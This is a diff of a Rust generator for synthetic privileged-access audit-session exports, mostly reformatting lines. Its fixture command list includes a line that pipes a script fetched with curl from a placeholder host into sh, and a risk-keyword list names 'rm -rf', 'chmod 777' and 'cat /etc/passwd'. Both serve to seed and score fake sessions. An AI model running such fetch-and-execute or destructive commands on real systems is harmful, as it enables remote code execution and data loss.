@@ -92,8 +92,20 @@ pub struct Export {
     pub related: Vec<Value>,
 }
 
-const USERS: &[&str] = &["alice", "bob", "jdoe", "mkovacs", "svc_backup", "dba01", "helpdesk2", "root-ops", "tnakamura", "eve"];
-const SERVER_USERS: &[&str] = &["root", "postgres", "administrator", "oracle", "www-data", "ubuntu", "Administrator"];
+const USERS: &[&str] = &[
+    "alice",
+    "bob",
+    "jdoe",
+    "mkovacs",
+    "svc_backup",
+    "dba01",
+    "helpdesk2",
+    "root-ops",
+    "tnakamura",
+    "eve",
+];
+const SERVER_USERS: &[&str] =
+    &["root", "postgres", "administrator", "oracle", "www-data", "ubuntu", "Administrator"];
 const POLICIES: &[(&str, &str)] = &[
     ("ssh-prod", "4417720985f1a2b3c4d5e6"),
     ("rdp-jump", "15682863055beac3c8d23bf"),
@@ -119,7 +131,14 @@ const SSH_COMMANDS: &[&str] = &[
     "curl http://example.test/run.sh | sh",
 ];
 const RISKY: &[&str] = &["rm -rf", "chmod 777", "curl", "shutdown", "adduser", "cat /etc/passwd"];
-const WINDOWS: &[&str] = &["Server Manager", "PowerShell", "Control Panel", "Event Viewer", "Management Console", "Notepad - hosts"];
+const WINDOWS: &[&str] = &[
+    "Server Manager",
+    "PowerShell",
+    "Control Panel",
+    "Event Viewer",
+    "Management Console",
+    "Notepad - hosts",
+];
 
 /// Generates `n` sessions from `seed`. The same inputs always give the same export.
 pub fn generate(n: usize, seed: u64) -> Export {
@@ -139,7 +158,11 @@ pub fn generate_variant(n: usize, seed: u64, variant: Variant) -> Export {
 
 /// The sessions of [`generate_variant`] one at a time, each with the documents linked from it (none
 /// when they are inline), so an export of a million sessions is written without holding it.
-pub fn each_session(n: usize, seed: u64, variant: Variant) -> impl Iterator<Item = (Value, Vec<Value>)> {
+pub fn each_session(
+    n: usize,
+    seed: u64,
+    variant: Variant,
+) -> impl Iterator<Item = (Value, Vec<Value>)> {
     let mut rng = Rng(seed);
     // 2024-03-01T06:00:00Z
     let mut clock: i64 = 1_709_272_800;
@@ -154,7 +177,11 @@ pub fn each_session(n: usize, seed: u64, variant: Variant) -> impl Iterator<Item
                 }
             }
         }
-        let rel = if variant.inline { rel.into_iter().filter_map(|d| inline_into(&mut doc, d)).collect() } else { rel };
+        let rel = if variant.inline {
+            rel.into_iter().filter_map(|d| inline_into(&mut doc, d)).collect()
+        } else {
+            rel
+        };
         (doc, rel)
     })
 }
@@ -162,9 +189,21 @@ pub fn each_session(n: usize, seed: u64, variant: Variant) -> impl Iterator<Item
 /// Writes the export [`generate_variant`] and [`Export::render`] would give, byte for byte, a session
 /// at a time (NDJSON lists its linked documents after every session, so they are generated again for
 /// a second pass rather than kept).
-pub fn write(n: usize, seed: u64, variant: Variant, layout: Layout, out: &mut impl std::io::Write) -> std::io::Result<()> {
+pub fn write(
+    n: usize,
+    seed: u64,
+    variant: Variant,
+    layout: Layout,
+    out: &mut impl std::io::Write,
+) -> std::io::Result<()> {
     let sessions = each_session(n, seed, variant).map(|(doc, _)| doc);
-    write_layout(sessions, || each_session(n, seed, variant).flat_map(|(_, rel)| rel), n, layout, out)
+    write_layout(
+        sessions,
+        || each_session(n, seed, variant).flat_map(|(_, rel)| rel),
+        n,
+        layout,
+        out,
+    )
 }
 
 /// The `n` sessions and (for NDJSON) the documents linked from them, written in `layout`: the one
@@ -240,7 +279,8 @@ fn stub_list(mut stubs: Vec<Value>) -> Value {
 
 fn iso(epoch: i64, offset_minutes: i32, millis: bool) -> String {
     use chrono::{FixedOffset, TimeZone};
-    let off = FixedOffset::east_opt(offset_minutes * 60).unwrap_or(FixedOffset::east_opt(0).expect("zero offset is valid"));
+    let off = FixedOffset::east_opt(offset_minutes * 60)
+        .unwrap_or(FixedOffset::east_opt(0).expect("zero offset is valid"));
     let dt = off.timestamp_opt(epoch, 0).single().unwrap_or_default();
     match (offset_minutes, millis) {
         (0, true) => dt.format("%Y-%m-%dT%H:%M:%S%.3fZ").to_string(),
@@ -252,14 +292,18 @@ fn iso(epoch: i64, offset_minutes: i32, millis: bool) -> String {
 
 fn naive(epoch: i64, frac: &str) -> String {
     use chrono::{TimeZone, Utc};
-    format!("{}{frac}", Utc.timestamp_opt(epoch, 0).single().unwrap_or_default().format("%Y-%m-%dT%H:%M:%S"))
+    format!(
+        "{}{frac}",
+        Utc.timestamp_opt(epoch, 0).single().unwrap_or_default().format("%Y-%m-%dT%H:%M:%S")
+    )
 }
 
 /// Moves a channels, events or alerts document's items into the session's body, in place of its
 /// link; gives back any other document.
 fn inline_into(session: &mut Value, related: Value) -> Option<Value> {
     let href = related["meta"]["href"].as_str().unwrap_or_default();
-    let member = ["channels", "events", "alerts"].into_iter().find(|m| href.ends_with(&format!("/{m}")));
+    let member =
+        ["channels", "events", "alerts"].into_iter().find(|m| href.ends_with(&format!("/{m}")));
     match (member, session.get_mut("body")) {
         (Some(m), Some(body)) => {
             body[m] = related["items"].clone();
@@ -308,12 +352,14 @@ fn session(rng: &mut Rng, i: usize, start: i64, unix_times: bool) -> (Value, Vec
     };
     let accepted = matches!(verdict, "accept" | "accept-terminated");
     let active = accepted && i % 29 == 5;
-    let duration: i64 = if accepted { 20 + rng.below(3 * 3600) as i64 } else { rng.below(15) as i64 };
+    let duration: i64 =
+        if accepted { 20 + rng.below(3 * 3600) as i64 } else { rng.below(15) as i64 };
     let end = start + duration;
     let user = *rng.pick(USERS);
     let server_user = *rng.pick(SERVER_USERS);
     let host_n = rng.below(24);
-    let server_name = format!("{}-{:02}", rng.pick(&["db-prod", "web", "app", "jump", "fs", "dc"]), host_n);
+    let server_name =
+        format!("{}-{:02}", rng.pick(&["db-prod", "web", "app", "jump", "fs", "dc"]), host_n);
     let server_ip = format!("198.51.100.{}", 10 + host_n);
     let client_ip = format!("10.20.{}.{}", rng.below(8), 2 + rng.below(250));
     let client = json!({"ip": client_ip, "name": if rng.chance(60) { format!("ws-ops-{:02}", rng.below(40)) } else { client_ip.clone() }, "port": 49152 + rng.below(16000)});
@@ -345,10 +391,18 @@ fn session(rng: &mut Rng, i: usize, start: i64, unix_times: bool) -> (Value, Vec
             commands.push(*rng.pick(SSH_COMMANDS));
         }
     }
-    let titles: Vec<&str> =
-        if accepted && matches!(protocol, "RDP" | "ICA" | "VNC") { (0..3).map(|_| *rng.pick(WINDOWS)).collect() } else { vec![] };
-    let risky: Vec<&str> = commands.iter().copied().filter(|c| RISKY.iter().any(|r| c.contains(r))).collect();
-    let score = if era == Era::V5 && rng.chance(50) { None } else { Some((rng.below(60) + 25 * risky.len() as u64).min(100)) };
+    let titles: Vec<&str> = if accepted && matches!(protocol, "RDP" | "ICA" | "VNC") {
+        (0..3).map(|_| *rng.pick(WINDOWS)).collect()
+    } else {
+        vec![]
+    };
+    let risky: Vec<&str> =
+        commands.iter().copied().filter(|c| RISKY.iter().any(|r| c.contains(r))).collect();
+    let score = if era == Era::V5 && rng.chance(50) {
+        None
+    } else {
+        Some((rng.below(60) + 25 * risky.len() as u64).min(100))
+    };
     let scripted = protocol == "SSH" && rng.chance(8);
     let interesting: Vec<&str> = commands
         .iter()
@@ -384,8 +438,12 @@ fn session(rng: &mut Rng, i: usize, start: i64, unix_times: bool) -> (Value, Vec
         } else {
             vec!["command", "fis", "keystroke", "logintime", "hostlogin"]
         };
-        let details: serde_json::Map<String, Value> =
-            algos.iter().map(|a| (a.to_string(), json!({"score": (s + rng.below(30)).saturating_sub(15).min(100)}))).collect();
+        let details: serde_json::Map<String, Value> = algos
+            .iter()
+            .map(|a| {
+                (a.to_string(), json!({"score": (s + rng.below(30)).saturating_sub(15).min(100)}))
+            })
+            .collect();
         analytics["score"] = json!({"aggregated": s, "details": details});
     }
     if era == Era::V7 {
@@ -396,13 +454,23 @@ fn session(rng: &mut Rng, i: usize, start: i64, unix_times: bool) -> (Value, Vec
         } else {
             "long"
         });
-        analytics["bucketed_starting_hour"] = json!(format!("{:02}-{:02}", (start / 3600) % 24 / 4 * 4, (start / 3600) % 24 / 4 * 4 + 4));
+        analytics["bucketed_starting_hour"] = json!(format!(
+            "{:02}-{:02}",
+            (start / 3600) % 24 / 4 * 4,
+            (start / 3600) % 24 / 4 * 4 + 4
+        ));
     }
     let index_status: Value = match (era, accepted, active) {
         (_, false, _) => json!(if era == Era::V5 { json!(6) } else { json!("NO_TRAIL") }),
         (_, _, true) => json!("CHANNEL_OPEN"),
         (Era::V5, _, _) => json!(3),
-        _ => json!(*rng.pick(&["INDEXED", "INDEXED", "INDEXED", "INDEXING_NOT_REQUIRED", "INDEXING_FAILED"])),
+        _ => json!(*rng.pick(&[
+            "INDEXED",
+            "INDEXED",
+            "INDEXED",
+            "INDEXING_NOT_REQUIRED",
+            "INDEXING_FAILED"
+        ])),
     };
     let archived = accepted && !active && rng.chance(30);
     let archive = archived.then(|| json!({"date": iso(end + 86_400 * 20, 0, true), "path": format!("{}/", naive(end, "").get(..10).unwrap_or("")), "policy": "8106930065bf7eb4c3cf59", "server": "\\\\192.0.2.50\\sps-archive (user: archiver)"}));
@@ -468,7 +536,8 @@ fn session(rng: &mut Rng, i: usize, start: i64, unix_times: bool) -> (Value, Vec
         body["user"]["gateway_username"] = json!(user);
         body["user"]["name_domain"] = json!("CORP");
         body["user"]["server_username_domain"] = json!(if protocol == "RDP" { "CORP" } else { "" });
-        body["trail_download_link"] = if accepted { json!(format!("{href}/audit_trail")) } else { Value::Null };
+        body["trail_download_link"] =
+            if accepted { json!(format!("{href}/audit_trail")) } else { Value::Null };
         if body["origin"] == "LOG" {
             body["log"] = json!({"adapter_name": "sshd", "auth_method": "publickey", "syslog_time": iso(start, 0, true)});
         }
@@ -481,8 +550,13 @@ fn session(rng: &mut Rng, i: usize, start: i64, unix_times: bool) -> (Value, Vec
         body["duration"] = json!(duration + 900);
     }
     let doc = json!({"key": key, "body": body, "meta": {"href": href, "parent": "/api/audit/sessions", "remaining_seconds": 598}});
-    let related =
-        if accepted { related_docs(rng, era, era_times, &key, protocol, start, duration, &commands, &titles, &risky) } else { vec![] };
+    let related = if accepted {
+        related_docs(
+            rng, era, era_times, &key, protocol, start, duration, &commands, &titles, &risky,
+        )
+    } else {
+        vec![]
+    };
     (doc, related)
 }
 
@@ -553,7 +627,10 @@ fn related_docs(
         }
         "RDP" => {
             add(rng, json!({"type": "drawing"}));
-            add(rng, json!({"type": "dynamic virtual", "dynamic_channel": "Microsoft::Windows::RDS::Graphics"}));
+            add(
+                rng,
+                json!({"type": "dynamic virtual", "dynamic_channel": "Microsoft::Windows::RDS::Graphics"}),
+            );
             if rng.chance(50) {
                 add(rng, json!({"type": "disk redirect", "device_name": "C:"}));
             }
@@ -579,7 +656,9 @@ fn related_docs(
         _ => add(rng, json!({"type": "http"})),
     }
     let nchan = channels.len();
-    let mut out = vec![json!({"items": channels, "meta": meta(&format!("{parent}/channels"), &parent, nchan)})];
+    let mut out = vec![
+        json!({"items": channels, "meta": meta(&format!("{parent}/channels"), &parent, nchan)}),
+    ];
     let naive_t = |k: usize, frac: &str| naive(start + 5 + 13 * k as i64, frac);
     if !commands.is_empty() || !titles.is_empty() {
         let items: Vec<Value> = if era == Era::V5 {
@@ -612,7 +691,9 @@ fn related_docs(
         let items = vec![
             json!({"from_api": true, "ip_address": "192.0.2.40", "time": iso(start + duration + 86_400, 0, true), "username": "auditor1"}),
         ];
-        out.push(json!({"items": items, "meta": meta(&format!("{parent}/trail_downloads"), &parent, 1)}));
+        out.push(
+            json!({"items": items, "meta": meta(&format!("{parent}/trail_downloads"), &parent, 1)}),
+        );
     }
     if rng.chance(30) {
         let link = if era == Era::V7 { "indexer" } else { "indexing" };
@@ -632,7 +713,8 @@ impl Export {
     pub fn render(&self, layout: Layout) -> String {
         let mut out = Vec::new();
         // Into memory, so it cannot fail; serde_json writes UTF-8.
-        let _ = write_layout(&self.sessions, || &self.related, self.sessions.len(), layout, &mut out);
+        let _ =
+            write_layout(&self.sessions, || &self.related, self.sessions.len(), layout, &mut out);
         String::from_utf8(out).unwrap_or_default()
     }
 }
@@ -648,11 +730,18 @@ mod tests {
                 let mut out = Vec::new();
                 write(40, 5, variant, layout, &mut out).expect("writes to memory");
                 let whole = generate_variant(40, 5, variant);
-                assert_eq!(String::from_utf8(out).expect("UTF-8"), whole.render(layout), "{layout:?}");
+                assert_eq!(
+                    String::from_utf8(out).expect("UTF-8"),
+                    whole.render(layout),
+                    "{layout:?}"
+                );
                 // The layouts as serde_json writes the whole document (NDJSON: the committed demo's test).
                 let reference = match layout {
                     Layout::Array => Value::Array(whole.sessions.clone()).to_string(),
-                    Layout::List => json!({"items": whole.sessions, "meta": list_meta(whole.sessions.len())}).to_string(),
+                    Layout::List => {
+                        json!({"items": whole.sessions, "meta": list_meta(whole.sessions.len())})
+                            .to_string()
+                    }
                     Layout::Ndjson => continue,
                 };
                 assert_eq!(whole.render(layout), reference, "{layout:?}");
